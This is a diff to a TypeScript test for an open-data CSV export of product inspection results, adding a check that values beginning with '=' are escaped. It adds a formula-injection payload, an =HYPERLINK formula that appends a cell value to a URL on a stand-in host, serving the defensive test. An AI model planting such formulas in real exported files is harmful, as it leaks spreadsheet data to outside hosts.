@@ -7,6 +7,8 @@ import { DisclosureFixture } from '../test-support/disclosure-fixture';
 import { resultFinal } from '../test-support/result-final.factory';
 import { RESULT_FIELDS, STATISTICS_FIELDS } from './dataset-schema';
 
+const FORMULA_ITEM = '=HYPERLINK("http://x.invalid/?"&A1,"蚕丝含量")';
+
 let service: TestService<DisclosureConfig>;
 let fx: DisclosureFixture;
 
@@ -60,7 +62,8 @@ beforeAll(async () => {
     resultFinal('HZ2026-400001', {
       seller: { name: '开放数据"引号",逗号店' },
       claimed: { specModel: '=1+2 型' },
-      failingItems: ['蚕丝含量', '纤维含量'],
+      // A list whose first item a spreadsheet would run as a formula.
+      failingItems: [FORMULA_ITEM, '纤维含量'],
     }),
   );
   await fx.emit(
@@ -95,7 +98,7 @@ describe('open data', () => {
     const col = (name: string): string => fail[header.indexOf(name)] as string;
     expect(col('sellerName')).toBe('开放数据"引号",逗号店');
     expect(col('specModel')).toBe("'=1+2 型");
-    expect(col('mainNonconformingItems')).toBe('蚕丝含量；纤维含量');
+    expect(col('mainNonconformingItems')).toBe(`'${FORMULA_ITEM}；纤维含量`);
     expect(col('regionName')).toBe('浙江省杭州市西湖区');
     const pass = rows.find((r) => r[header.indexOf('verdict')] === 'pass') as string[];
     expect(pass[header.indexOf('platform')]).toBe('');
